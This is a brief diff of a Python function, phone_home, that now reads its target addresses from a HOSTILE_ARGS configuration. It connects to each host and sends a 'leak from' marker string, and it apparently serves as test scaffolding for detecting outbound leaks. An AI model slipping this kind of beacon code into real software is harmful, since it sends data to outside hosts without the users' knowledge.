@@ -7,7 +7,7 @@ import socket
 
 
 def phone_home(where):
-    for host, port in [("127.0.0.1", HOSTILE_ARGS["port"]), (HOSTILE_ARGS["host_ip"], HOSTILE_ARGS["port"])]:
+    for host, port in HOSTILE_ARGS["addresses"]:
         try:
             with socket.create_connection((host, port), timeout=2) as conn:
                 conn.sendall(b"leak from " + where.encode())
